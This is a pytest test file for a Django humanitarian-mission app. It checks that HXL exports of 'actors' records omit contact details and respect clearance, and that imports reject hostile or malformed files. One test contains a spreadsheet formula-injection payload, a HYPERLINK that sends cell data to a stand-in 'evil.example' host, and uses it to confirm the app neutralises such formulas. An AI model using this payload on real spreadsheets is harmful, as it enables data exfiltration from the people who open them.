"""Actors exchange: HXL exports without contact details, filtered by scope and clearance;
all-or-nothing imports that survive hostile files; a round trip between missions."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import hxl
import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.test import override_settings

from palava.actors.exchange import EXPORT_COLUMNS, IMPORT_JOB_KIND, actors_import_job_run
from palava.actors.models import Actor, ActorKind, ActorType, Gender, RecordSensitivity
from palava.actors.services import actor_create, actor_set_contact
from palava.core.exporters import export_kind_get, export_write
from palava.core.importers import import_kind_get
from palava.core.models import Job, JobStatus
from palava.core.services import job_create
from palava.missions.models import Membership, Mission, Role
from palava.places.demo import load_places
from palava.places.models import AdminUnit, Site
from palava.places.services import membership_scope_set
from tests.factories import MembershipFactory, MissionFactory

PHONES = ("+999 81 555 0142", "+999 97 123 4567")
EMAIL = "chief.secret@example.org"
NOTE = "Met privately after the forum; do not share"
ACTOR_TAGS = [column.hashtag for column in EXPORT_COLUMNS]


@pytest.fixture
def demo_places(mission: Mission) -> Mission:
    load_places(mission, {}, io.StringIO())
    return mission


def _unit(mission: Mission, pcode: str) -> AdminUnit:
    return AdminUnit.objects.get(mission=mission, pcode=pcode)


@pytest.fixture
def registry(demo_places: Mission) -> list[Actor]:
    """Actors in two provinces, one with contact details and notes, one strictly confidential,
    one confidential, an organisation at a site."""
    mission = demo_places
    site = Site.objects.filter(mission=mission, admin_unit__pcode__startswith="CDX2").first()
    assert site is not None
    chief = actor_create(
        actor=None, mission=mission, kind=ActorKind.PERSON,
        actor_type=ActorType.TRADITIONAL_AUTHORITY, name="Mwami Kasongo Lubala",
        alt_names=["Kasongo Loubala"], gender=Gender.MALE, title="Mwami",
        admin_unit=_unit(mission, "CDX10101"), languages=["sw", "fr"], influence=5,
        stance_peace_process=1, stance_mission=-1, notes=NOTE,
    )  # fmt: skip
    actor_set_contact(actor=None, record=chief, phone=PHONES[0], email=EMAIL)
    women = actor_create(
        actor=None, mission=mission, kind=ActorKind.GROUP, actor_type=ActorType.WOMENS_GROUP,
        name="Association des femmes de Tulu", admin_unit=_unit(mission, "CDX203"), site=site,
        influence=3, stance_peace_process=2, sensitivity=int(RecordSensitivity.PUBLIC),
    )  # fmt: skip
    armed = actor_create(
        actor=None, mission=mission, kind=ActorKind.PERSON,
        actor_type=ActorType.ARMED_GROUP_FIGURE, name="Commandant Zimba",
        admin_unit=_unit(mission, "CDX30201"), influence=4, stance_peace_process=-2,
        stance_mission=-2,
    )  # fmt: skip
    actor_set_contact(actor=None, record=armed, phone=PHONES[1])
    police = actor_create(
        actor=None, mission=mission, kind=ActorKind.PERSON, actor_type=ActorType.SECURITY_ACTOR,
        name="Commissaire Baraka Ndeze", admin_unit=_unit(mission, "CDX1"),
        sensitivity=int(RecordSensitivity.CONFIDENTIAL),
    )  # fmt: skip
    return [chief, women, armed, police]


@pytest.fixture
def export_to(tmp_path: Path) -> Callable[..., Path]:
    def run(fmt: str, reader: Membership, name: str = "actors") -> Path:
        kind = export_kind_get("actors")
        assert kind is not None
        path = tmp_path / f"{name}.{fmt}"
        with path.open("wb") as out:
            export_write(kind=kind, fmt=fmt, reader=reader, out=out)
        return path

    return run


def _hxl(path: Path) -> tuple[list[str], list[Any]]:
    source = hxl.data(str(path), hxl.InputOptions(allow_local=True))
    return [column.display_tag for column in source.columns], list(source)


def _all_text(path: Path) -> str:
    """Every byte of the file as text (the XML parts of an XLSX)."""
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            return "".join(archive.read(name).decode("utf-8") for name in archive.namelist())
    return path.read_bytes().decode("utf-8-sig")


def _digits(text: str) -> str:
    return "".join(ch for ch in text if ch.isdigit())


def _snapshot(mission: Mission) -> list[tuple[Any, ...]]:
    return sorted(
        (
            a.name,
            a.kind,
            a.actor_type,
            a.admin_unit.pcode if a.admin_unit else None,
            a.site.code if a.site else None,
            a.influence,
            a.stance_peace_process,
            a.stance_mission,
            a.sensitivity,
            tuple(a.languages),
            tuple(a.alt_names),
            a.title,
            a.gender,
        )
        for a in Actor.objects.filter(mission=mission).select_related("admin_unit", "site")
    )


# --- Export ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_actors_export_is_hxl_and_never_holds_contact_details_or_notes(
    demo_places: Mission, registry: list[Actor], export_to: Callable[..., Path], fmt: str
) -> None:
    # when an administrator (full clearance, contact permission) exports the actors
    admin = MembershipFactory(mission=demo_places, role=Role.ADMIN)
    path = export_to(fmt, admin)
    # then libhxl reads the documented hashtags and one row per actor
    tags, rows = _hxl(path)
    assert tags == ACTOR_TAGS
    assert len(rows) == len(registry)
    chief = next(r for r in rows if r.get("#contact+name") == "Mwami Kasongo Lubala")
    assert (chief.get("#adm1+code"), chief.get("#adm3+code")) == ("CDX1", "CDX10101")
    assert str(chief.get("#indicator+influence+num")) == "5"
    assert str(chief.get("#indicator+stance+mission+num")) == "-1"
    women = next(r for r in rows if r.get("#org+name"))
    assert women.get("#loc+code") == registry[1].site.code  # type: ignore[union-attr]
    # and no phone digits, e-mail, pseudonym or note appear anywhere in the file
    text = _all_text(path)
    for phone in PHONES:
        assert _digits(phone)[-7:] not in _digits(text)
    assert EMAIL not in text
    assert "secret" not in text
    assert NOTE not in text
    pseudonym = Actor.objects.get(pk=registry[0].pk).phone_pseudonym
    assert pseudonym
    assert pseudonym not in text


def test_actors_export_passes_the_default_hxl_schema(
    demo_places: Mission, registry: list[Actor], export_to: Callable[..., Path], shared_data: Path
) -> None:
    # given libhxl's default schema
    problems: list[Any] = []
    schema = hxl.schema(
        hxl.data(
            str(shared_data / "hxl" / "hxl-default-schema.json"), hxl.InputOptions(allow_local=True)
        ),
        callback=problems.append,
    )
    # when the export is validated
    path = export_to("csv", MembershipFactory(mission=demo_places, role=Role.ADMIN))
    schema.validate(hxl.data(str(path), hxl.InputOptions(allow_local=True)))
    # then nothing of severity "error" (influence and stance are numbers)
    assert [p.message for p in problems if p.rule.severity == "error"] == []


@pytest.mark.parametrize(
    ("role", "expected"),
    [
        (Role.VIEWER, {"Mwami Kasongo Lubala", "Association des femmes de Tulu"}),
        (
            Role.ANALYST,
            {"Mwami Kasongo Lubala", "Association des femmes de Tulu", "Commissaire Baraka Ndeze"},
        ),
        (
            Role.MANAGER,
            {
                "Mwami Kasongo Lubala",
                "Association des femmes de Tulu",
                "Commissaire Baraka Ndeze",
                "Commandant Zimba",
            },
        ),
    ],
)
def test_actors_export_holds_nothing_above_the_readers_clearance(
    demo_places: Mission,
    registry: list[Actor],
    export_to: Callable[..., Path],
    role: str,
    expected: set[str],
) -> None:
    # when members of different clearance export
    _tags, rows = _hxl(export_to("csv", MembershipFactory(mission=demo_places, role=role)))
    # then each gets exactly the actors at or below their clearance
    assert {r.get("#contact+name") or r.get("#org+name") for r in rows} == expected


def test_a_scoped_members_actor_export_holds_only_their_province(
    demo_places: Mission, registry: list[Actor], export_to: Callable[..., Path]
) -> None:
    # given a manager (full clearance) scoped to province CDX1
    member = MembershipFactory(mission=demo_places, role=Role.MANAGER)
    membership_scope_set(actor=None, membership=member, units=[_unit(demo_places, "CDX1")])
    # when they export
    _tags, rows = _hxl(export_to("xlsx", member))
    # then only actors of CDX1 are there
    assert {r.get("#adm1+code") for r in rows} == {"CDX1"}
    assert {r.get("#contact+name") for r in rows} == {
        "Mwami Kasongo Lubala",
        "Commissaire Baraka Ndeze",
    }


# --- Import ----------------------------------------------------------------------------------


def _import(mission: Mission, path: Path, actor: Any = None) -> Job:
    """Run an import job like the upload page would (``actor``: the member importing)."""
    job = job_create(
        actor=actor or "test", mission=mission, kind=IMPORT_JOB_KIND, input_file=str(path)
    )
    return actors_import_job_run(job=job, actor=actor or "test")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_actors_round_trip_export_then_import_into_another_mission(
    demo_places: Mission, registry: list[Actor], export_to: Callable[..., Path], fmt: str
) -> None:
    # given the actors exported with full clearance, and a second mission with the same places
    path = export_to(fmt, MembershipFactory(mission=demo_places, role=Role.ADMIN))
    other = MissionFactory()
    load_places(other, {}, io.StringIO())
    # when the file is imported there with `palava import actors`
    out = io.StringIO()
    call_command("import", "actors", str(path), "--mission", other.slug, stdout=out)
    # then the same actors exist there, on the same places, without any contact details
    assert _snapshot(other) == _snapshot(demo_places)
    imported = Actor.objects.filter(mission=other)
    assert not imported.filter(phone__isnull=False).exists()
    assert not imported.exclude(notes="").exists()
    assert "created 4" in out.getvalue()


def test_importing_an_export_into_its_own_mission_adds_nothing(
    demo_places: Mission, registry: list[Actor], export_to: Callable[..., Path]
) -> None:
    # given the mission's own export
    path = export_to("csv", MembershipFactory(mission=demo_places, role=Role.ADMIN))
    # when it is imported back
    job = _import(demo_places, path)
    # then every row is recognised by its public id and skipped
    assert job.status == JobStatus.SUCCEEDED
    assert job.result["counts"] == {"created": 0, "skipped": 4}
    assert Actor.objects.filter(mission=demo_places).count() == 4


HEADER = "Person,Organisation or group,Type,Admin 3 P-code,Influence,Stance: mission\n"
HXL_ROW = (
    "#contact+name,#org+name,#org+type,#adm3+code,#indicator+influence+num,"
    "#indicator+stance+mission+num\n"
)
GOOD = "Jean-Pierre Mbuli,,traditional_authority,CDX10101,4,1\n"


def _wrong_columns(tmp: Path) -> Path:
    path = tmp / "wrong.csv"
    path.write_text("Nom,Téléphone\nJean,+999 81 000 0000\n", encoding="utf-8")
    return path


def _bad_encoding(tmp: Path) -> Path:
    path = tmp / "encoding.csv"
    path.write_bytes(HEADER.encode() + b"Jean \x81\x8d\x90 Mbuli,,other,CDX10101,1,0\n")
    return path


def _utf16_without_bom(tmp: Path) -> Path:
    path = tmp / "utf16.csv"
    path.write_bytes((HEADER + GOOD).encode("utf-16-le"))
    return path


def _huge(tmp: Path) -> Path:
    path = tmp / "huge.csv"
    path.write_text(HEADER + GOOD * 5000, encoding="utf-8")  # ~200 kB > the 100 kB limit below
    return path


def _bad_row_among_good(tmp: Path) -> Path:
    path = tmp / "one-bad.csv"
    body = GOOD + "Marie Kavira,,women's group,CDX10101,9,1\n" + GOOD.replace("Jean", "Paul")
    path.write_text(HEADER + HXL_ROW + body, encoding="utf-8")
    return path


def _unknown_pcode(tmp: Path) -> Path:
    path = tmp / "pcode.csv"
    path.write_text(HEADER + GOOD + GOOD.replace("CDX10101", "CD999999"), encoding="utf-8")
    return path


def _fake_xlsx(tmp: Path) -> Path:
    path = tmp / "fake.xlsx"
    path.write_bytes(b"PK\x03\x04" + b"\x00garbage" * 100)
    return path


def _binary_junk(tmp: Path) -> Path:
    path = tmp / "junk.csv"
    path.write_bytes(bytes(range(256)) * 50)
    return path


@pytest.mark.parametrize(
    ("make", "line", "reason_part"),
    [
        (_wrong_columns, 0, "name column"),
        (_bad_encoding, 0, "Windows-1252"),
        (_utf16_without_bom, 0, "NUL"),
        (_huge, 0, "limit"),
        (_bad_row_among_good, 4, "Influence"),
        (_unknown_pcode, 3, "CD999999"),
        (_fake_xlsx, 0, "XLSX"),
        (_binary_junk, 0, "NUL"),
    ],
)
@override_settings(PALAVA_IMPORT_MAX_BYTES=100_000)
def test_hostile_actor_files_are_refused_with_reasons_and_change_nothing(
    demo_places: Mission,
    tmp_path: Path,
    make: Callable[[Path], Path],
    line: int,
    reason_part: str,
) -> None:
    # given a hostile or broken file
    path = make(tmp_path)
    before = Actor.objects.count()
    # when it is imported
    job = _import(demo_places, path)
    # then the job failed, saying where and why, and no actor was written
    assert job.status == JobStatus.FAILED
    assert any(e["line"] == line and reason_part in e["reason"] for e in job.errors), job.errors
    assert Actor.objects.count() == before


def test_a_formula_in_a_csv_or_xlsx_import_stays_text_and_is_neutralised_on_export(
    demo_places: Mission, tmp_path: Path, export_to: Callable[..., Path]
) -> None:
    # given a CSV and an XLSX whose name cells are spreadsheet formulas
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    csv_path = tmp_path / "formula.csv"
    with csv_path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Person", "Type", "Admin 1 P-code"])
        writer.writerow([formula, "other", "CDX1"])
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Organisation or group", "Type", "Admin 2 P-code"])
    sheet.append(["=1+1", "business", "CDX101"])  # openpyxl stores this as a formula cell
    xlsx_path = tmp_path / "formula.xlsx"
    book.save(xlsx_path)
    # when both are imported
    assert _import(demo_places, csv_path).status == JobStatus.SUCCEEDED
    assert _import(demo_places, xlsx_path).status == JobStatus.SUCCEEDED
    # then the formulas are stored as their text, never evaluated
    names = set(Actor.objects.filter(mission=demo_places).values_list("name", flat=True))
    assert names == {formula, "=1+1"}
    # and an export writes them so spreadsheets do not run them
    admin = MembershipFactory(mission=demo_places, role=Role.ADMIN)
    assert "'=HYPERLINK(" in export_to("csv", admin).read_text(encoding="utf-8-sig")
    exported = openpyxl.load_workbook(export_to("xlsx", admin))
    cells = [c for row in exported.active.iter_rows(min_row=3) for c in row if c.value == "=1+1"]
    assert cells
    assert all(c.data_type == "s" for c in cells)


def test_a_scoped_member_cannot_import_outside_their_area_or_above_their_clearance(
    demo_places: Mission, tmp_path: Path
) -> None:
    # given an officer (confidential clearance) scoped to CDX2
    member = MembershipFactory(mission=demo_places, role=Role.OFFICER)
    membership_scope_set(actor=None, membership=member, units=[_unit(demo_places, "CDX2")])
    path = tmp_path / "scoped.csv"
    path.write_text(
        "Person,Type,Admin 2 P-code,Sensitivity\n"
        "Inside Person,other,CDX201,internal\n"
        "Outside Person,other,CDX101,internal\n"
        "Secret Person,other,CDX202,strictly_confidential\n",
        encoding="utf-8",
    )
    # when they import it
    job = _import(demo_places, path, actor=member.user)
    # then the rows outside their scope and above their clearance are refused, nothing written
    assert job.status == JobStatus.FAILED
    assert {e["line"] for e in job.errors} == {3, 4}
    assert not Actor.objects.filter(mission=demo_places).exists()


def test_the_actors_import_kind_is_registered_with_the_import_command(
    demo_places: Mission, tmp_path: Path
) -> None:
    # then `palava import actors` knows the kind
    kind = import_kind_get("actors")
    assert kind is not None
    assert set(kind.formats) == {"csv", "xlsx"}
    # and a failing file makes the command fail without writing
    path = _wrong_columns(tmp_path)
    with pytest.raises(CommandError):
        call_command(
            "import", "actors", str(path), "--mission", demo_places.slug, stdout=io.StringIO()
        )
    assert not Actor.objects.exists()
